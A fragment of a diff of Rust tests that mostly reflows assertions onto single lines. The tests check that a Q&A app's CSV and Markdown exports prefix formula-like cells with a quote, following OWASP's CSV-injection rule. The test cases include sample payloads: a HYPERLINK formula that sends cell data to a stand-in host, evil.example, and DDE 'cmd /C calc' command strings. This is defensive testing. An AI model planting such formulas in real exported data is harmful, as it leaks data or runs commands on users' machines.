-        json!({ "error": "service unavailable" })
-    );
+    assert_eq!(serde_json::from_slice::<Value>(&body).unwrap(), json!({ "error": "service unavailable" }));
 }
 
 /// OWASP's CSV-injection rule through the export route: a text or name that starts like a
@@ -1188,10 +897,7 @@ async fn exports_neutralise_cells_that_start_like_a_formula() {
     let mut app = app().await;
     let event = app.event().await;
     let cases = [
-        (
-            '=',
-            "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")",
-        ),
+        ('=', "=HYPERLINK(\"https://evil.example/?\"&A1,\"see slides\")"),
         ('+', "+1+cmd|' /C calc'!A0"),
         ('-', "-2+3 is it five?"),
         ('@', "@SUM(1+1)*cmd|' /C calc'!A0"),
@@ -1214,16 +920,8 @@ async fn exports_neutralise_cells_that_start_like_a_formula() {
     assert_eq!(rows.len(), cases.len() + 1);
     for (row, (start, qid, text, name)) in rows.iter().zip(&asked) {
         assert_eq!(&row[0], qid.to_string(), "{start:?}: rows in asking order");
-        assert_eq!(
-            &row[1],
-            format!("'{text}"),
-            "{start:?}: the text in the CSV"
-        );
-        assert_eq!(
-            &row[2],
-            format!("'{name}"),
-            "{start:?}: the name in the CSV"
-        );
+        assert_eq!(&row[1], format!("'{text}"), "{start:?}: the text in the CSV");
+        assert_eq!(&row[2], format!("'{name}"), "{start:?}: the name in the CSV");
     }
     assert_eq!(&rows[cases.len()][0], harmless.to_string());
     assert_eq!(&rows[cases.len()][1], "What comes next?");
@@ -1239,10 +937,7 @@ async fn exports_neutralise_cells_that_start_like_a_formula() {
     assert_eq!(lines.len(), 2 + cases.len() + 1, "{md}");
     for (line, (start, _, _, name)) in lines[2..].iter().zip(&asked) {
         let cells: Vec<&str> = line.split(" | ").collect();
-        assert!(
-            cells[1].starts_with('\''),
-            "{start:?}: the text in the Markdown: {line:?}"
-        );
+        assert!(cells[1].starts_with('\''), "{start:?}: the text in the Markdown: {line:?}");
         // A table cell holds one line, so the Markdown drops the carriage return.
         let expected = format!("'{name}").replace('\r', "");
         assert_eq!(cells[2], expected, "{start:?}: the name in the Markdown");
@@ -1251,14 +946,7 @@ async fn exports_neutralise_cells_that_start_like_a_formula() {
 
     let json_rows = app.get(&base).await.json();
     for (row, (start, _, text, name)) in json_rows.as_array().unwrap().iter().zip(&asked) {
-        assert_eq!(
-            row["text"], *text,
-            "{start:?}: the JSON keeps the text as asked"
-        );
-        assert_eq!(
-            row["who"],
-            name.as_str(),
-            "{start:?}: the JSON keeps the name"
-        );
+        assert_eq!(row["text"], *text, "{start:?}: the JSON keeps the text as asked");
+        assert_eq!(row["who"], name.as_str(), "{start:?}: the JSON keeps the name");
     }
 }
